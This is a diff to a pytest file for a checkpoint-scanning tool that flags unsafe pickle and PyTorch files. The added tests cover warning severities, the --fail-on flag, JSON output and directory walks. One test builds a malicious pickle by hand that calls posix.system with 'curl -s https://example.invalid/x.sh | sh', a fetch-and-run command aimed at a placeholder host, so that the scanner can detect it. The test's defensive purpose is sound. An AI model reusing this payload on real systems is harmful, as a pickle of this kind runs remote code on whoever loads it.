@@ -1,7 +1,8 @@
 """ckpt scan: every malicious file of the corpus is unsafe, benign checkpoints are
 safe (the documented exceptions aside), and each attack class made here by hand
 is caught and explained: zip tricks, pickles hidden or broken, TorchScript,
-TorchVersion. Also --allow, the JSON shape and the exit codes."""
+TorchVersion. Also the severities (safe, warning, unsafe), calls shown as Python
+reads them, --allow, --fail-on, directory walks, the JSON shape and the exit codes."""
 import io
 import json
 import pathlib
@@ -312,6 +313,16 @@ BENIGN_UNSAFE = {
 }
 EXPECTED_KIND = {TORCHSCRIPT: "torchscript", NUMPY_GLOBALS: "global",
                  NOT_A_CHECKPOINT: "format"}
+# of those, the ones in which nothing runs code: torch's default reader refuses
+# them (numpy arrays, a .npy of numbers), so they are a warning, not unsafe
+BENIGN_WARNING = {
+    *(f"Pickle.jl/{n}" for n in ("test-np-end.pkl", "test-np-multi.pkl",
+                                 "test-np-scalar.pkl", "test-np-string.pkl", "test-np.pkl")),
+    *(f"bumblebee/{n}" for n in (
+        "noncontiguous_numpy_array.legacy.pt", "noncontiguous_numpy_array.zip.pt",
+        "numpy_arrays.legacy.pt", "numpy_arrays.zip.pt")),
+    "picklescan/data2/int_array.npy",
+}
 
 
 def test_benign_files_are_safe_but_the_documented(tool, corpus_dir, source_dir):
@@ -325,6 +336,13 @@ def test_benign_files_are_safe_but_the_documented(tool, corpus_dir, source_dir):
         else:
             assert rep["findings"] == []
     assert sorted(unsafe) == sorted(BENIGN_UNSAFE)
+    for rel, rep in unsafe.items():
+        expected = "warning" if rel in BENIGN_WARNING else "unsafe"
+        assert rep["verdict"] == expected, (rel, rep)
+        assert rep["torch_weights_only_loads"] is False
+        if expected == "warning":
+            assert {f["severity"] for f in rep["findings"]} == {"warning"}, rel
+    assert js["warning"] == len(BENIGN_WARNING)
     for rel, why in BENIGN_UNSAFE.items():
         if why in EXPECTED_KIND:
             assert EXPECTED_KIND[why] in kinds(unsafe[rel]), rel
@@ -472,14 +490,62 @@ def test_torchscript(tool, made):
     assert "code" in finding(rep, "torchscript")["message"]
 
 
-def test_torch_version_needs_allowing(tool, made):
+def test_torch_version_is_a_warning(tool, made):
+    """torch.__version__ saved by a training script: nothing runs, but torch >= 2.6
+    refuses it by default. A warning (exit 0), unsafe for --fail-on warning."""
     rep = scan_one(tool, made["with_version.pt"])
-    assert rep["verdict"] == "unsafe"
+    assert rep["verdict"] == "warning" and rep["torch_weights_only_loads"] is False
     f = finding(rep, "global", "torch.torch_version.TorchVersion")
-    assert not f["runs_code"] and "weights-only allow-list" in f["message"]
+    assert f["severity"] == "warning" and not f["runs_code"]
+    assert f["call"] == f"torch.torch_version.TorchVersion({torch.__version__!r})"
+    assert "add_safe_globals([torch.torch_version.TorchVersion])" in f["message"]
     assert "--allow torch.torch_version.TorchVersion" in f["message"]
+    assert rep["reason"] == f["message"]
+    res = tool.run("scan", made["with_version.pt"])
+    assert res.returncode == 0, res.describe()
+    assert res.stdout.startswith(f"{made['with_version.pt']}: warning (1 finding, torch-zip)")
+    assert "  warning: global torch.torch_version.TorchVersion('" in res.stdout
+    res = tool.run("scan", "--fail-on", "warning", made["with_version.pt"])
+    assert res.returncode == 1, res.describe()
+    assert tool.run("scan", "--fail-on", "unsafe", made["with_version.pt"]).returncode == 0
+    assert tool.run("scan", "--fail-on", "bogus", made["with_version.pt"]).returncode == 2
+    assert tool.run("scan", "--fail-on", "warning", made["saved.pt"]).returncode == 0
     rep = scan_one(tool, made["with_version.pt"], "torch.torch_version.TorchVersion")
     assert rep["verdict"] == "safe" and rep["findings"] == []
+    assert rep["torch_weights_only_loads"] is True
+
+
+def test_numpy_arrays_are_a_warning(tool, tmp_path):
+    import numpy as np
+    p = tmp_path / "np.pt"
+    torch.save({"w": torch.ones(2), "a": np.arange(3.0)}, p)
+    rep = scan_one(tool, p)
+    assert rep["verdict"] == "warning", rep
+    assert "numpy.core.multiarray._reconstruct" in globals_of(rep)
+    np.save(tmp_path / "a.npy", np.arange(3.0))
+    assert scan_one(tool, tmp_path / "a.npy")["verdict"] == "warning"
+    # what a numpy global returns, called in turn, is not data any more
+    called = (b"\x80\x02cnumpy\ndtype\nX\x02\x00\x00\x00f8\x85R)R.")
+    (tmp_path / "called.pkl").write_bytes(called)
+    rep = scan_one(tool, tmp_path / "called.pkl")
+    assert rep["verdict"] == "unsafe" and finding(rep, "global", "numpy.dtype")["severity"] == "unsafe"
+
+
+def test_calls_are_shown_as_python_reads_them(tool, tmp_path):
+    cmd = "curl -s https://example.invalid/x.sh | sh; " + "x" * 200
+    payload = (b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(cmd)) + cmd.encode() +
+               b"\x85R.")
+    p = tmp_path / "evil.pkl"
+    p.write_bytes(payload)
+    rep = scan_one(tool, p)
+    assert rep["verdict"] == "unsafe" and rep["torch_weights_only_loads"] is False
+    f = finding(rep, "global", "posix.system")
+    assert f["severity"] == "unsafe" and f["runs_code"]
+    assert f["call"].startswith("posix.system('curl -s https://example.invalid/x.sh | sh; xxx")
+    assert f["call"].endswith("...)") and len(f["call"]) < 120
+    res = tool.run("scan", p)
+    assert res.returncode == 1
+    assert "  global posix.system('curl -s https://example.invalid/x.sh | sh; " in res.stdout
 
 
 def test_allow(tool, made):
@@ -532,14 +598,18 @@ def test_sharded_index(tool, made, tmp_path):
 
 def test_json_shape_and_exit_codes(tool, made, tmp_path):
     js = scan_json(tool, made["saved.pt"], made["broken.pkl"], code=1)
-    assert set(js) == {"files", "safe", "unsafe", "errors"}
-    assert (js["safe"], js["unsafe"], js["errors"]) == (1, 1, 0)
+    assert set(js) == {"files", "safe", "warning", "unsafe", "errors", "skipped"}
+    assert (js["safe"], js["warning"], js["unsafe"], js["errors"]) == (1, 0, 1, 0)
     safe, bad = js["files"]
     assert safe == {"file": str(made["saved.pt"]), "verdict": "safe", "format": "torch-zip",
+                    "torch_weights_only_loads": True, "reason": safe["reason"],
                     "findings": []}
     assert bad["verdict"] == "unsafe" and bad["format"] == "pickle"
+    assert bad["torch_weights_only_loads"] is False and "posix.system" in bad["reason"]
     for f in bad["findings"]:
-        assert set(f) >= {"kind", "global", "record", "offset", "use", "runs_code", "message"}
+        assert set(f) >= {"kind", "severity", "global", "call", "record", "offset", "use",
+                          "runs_code", "message"}
+        assert f["severity"] == "unsafe"
         assert isinstance(f["runs_code"], bool) and isinstance(f["message"], str)
         assert f["use"] is None or f["kind"] == "global"
     assert scan_json(tool, made["saved.pt"], code=0)["safe"] == 1
@@ -556,8 +626,9 @@ def test_human_output(tool, made):
     lines = res.stdout.splitlines()
     assert lines[0] == f"{made['saved.pt']}: safe"
     assert lines[1].startswith(f"{made['broken.pkl']}: unsafe (2 findings")
-    assert lines[2].startswith("  global posix.system (called by REDUCE; runs code)")
+    assert lines[2].startswith("  global posix.system('true') (called by REDUCE; runs code)")
     assert lines[3].startswith("  broken_pickle")
+    assert lines[4] == "2 files: 1 safe, 0 warning, 1 unsafe, 0 errors, 0 skipped"
     res = tool.run("scan", "--help")
     assert res.returncode == 0 and res.stdout.startswith("usage: ckpt scan")
     assert tool.run("scan").returncode == 2
@@ -572,3 +643,54 @@ def test_directories_are_walked(tool, made, tmp_path):
     (d / "sub" / "a.pkl").write_bytes(made["broken.pkl"].read_bytes())
     js = scan_json(tool, d, code=1)
     assert [pathlib.Path(f["file"]).name for f in js["files"]] == ["b.pt", "a.pkl"]
+    assert js["skipped"] == 0
+
+
+def test_hugging_face_directory(tool, made, tmp_path):
+    """A clean model repository: its configs, tokenizer and README are skipped, its
+    weights are scanned, and the exit status is 0."""
+    d = tmp_path / "model"
+    d.mkdir()
+    (d / "config.json").write_text(json.dumps({"architectures": ["Tiny"], "hidden_size": 2}))
+    (d / "tokenizer.json").write_text(json.dumps({"version": "1.0", "model": {"vocab": {}}}))
+    (d / "tokenizer_config.json").write_text("{}")
+    (d / "README.md").write_text("# tiny\n\nA model card.\n")
+    (d / "vocab.txt").write_text("[PAD]\n[UNK]\n")
+    (d / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(64))
+    (d / "model.safetensors").write_bytes(made["good.safetensors"].read_bytes())
+    torch.save({"lin.weight": torch.ones(2, 2), "lin.bias": torch.zeros(2)},
+               d / "pytorch_model.bin")
+    res = tool.run("scan", d)
+    assert res.returncode == 0, res.describe()
+    lines = res.stdout.splitlines()
+    assert lines == [f"{d}/model.safetensors: safe", f"{d}/pytorch_model.bin: safe",
+                     "2 files: 2 safe, 0 warning, 0 unsafe, 0 errors, 6 skipped"]
+    js = scan_json(tool, d, code=0)
+    assert (js["safe"], js["skipped"]) == (2, 6)
+    # a checkpoint under any name is found by its content
+    (d / "weights").write_bytes(made["saved.pt"].read_bytes())
+    (d / "payload").write_bytes(POSIX_SYSTEM)
+    js = scan_json(tool, d, code=1)
+    names = {pathlib.Path(f["file"]).name: f["verdict"] for f in js["files"]}
+    assert names == {"model.safetensors": "safe", "pytorch_model.bin": "safe",
+                     "weights": "safe", "payload": "unsafe"}
+
+
+def test_git_and_hidden_directories_are_skipped(tool, made, tmp_path):
+    d = tmp_path / "repo"
+    for sub in (".git/objects/ab", ".cache/huggingface", "sub"):
+        (d / sub).mkdir(parents=True)
+    for i in range(20):
+        (d / ".git" / "objects" / "ab" / f"{i:038x}").write_bytes(zlib.compress(b"blob 3\0abc"))
+    (d / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
+    (d / ".cache" / "huggingface" / "evil.pkl").write_bytes(POSIX_SYSTEM)
+    (d / ".gitattributes").write_text("*.bin filter=lfs diff=lfs merge=lfs -text\n")
+    (d / "sub" / "model.pt").write_bytes(made["with_version.pt"].read_bytes())
+    res = tool.run("scan", d)
+    assert res.returncode == 0, res.describe()
+    lines = res.stdout.splitlines()
+    assert lines[0].startswith(f"{d}/sub/model.pt: warning")
+    assert lines[-1] == "1 files: 0 safe, 1 warning, 0 unsafe, 0 errors, 3 skipped"
+    assert tool.run("scan", "--fail-on", "warning", d).returncode == 1
+    # named on the command line, a hidden file is scanned like any other
+    assert tool.run("scan", d / ".cache" / "huggingface" / "evil.pkl").returncode == 1
